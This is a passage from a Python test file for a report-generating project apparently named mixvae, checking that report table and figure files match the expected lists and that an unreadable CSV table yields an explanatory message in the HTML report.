    from mixvae.summary.figures import FIGURES

    there = {kind: {path.stem for path in (ROOT / "workflow/report" / kind).glob("*.rst")} for kind in ("tables", "figures")}
    assert there == {"tables": {*TABLES, "metrics"}, "figures": set(FIGURES)}


def test_an_unreadable_table_is_not_told_of(results):
    (results / "small/tables/comparisons_digits.csv").write_bytes(b"\xff\xfe")
    with pytest.raises(Unreadable):
        frame_of(read(results / "small", None)[0], "comparisons_digits")
    assert "Nothing can be told of comparisons_digits: it cannot be read, not a text file." in html(*examine(results / "small"))
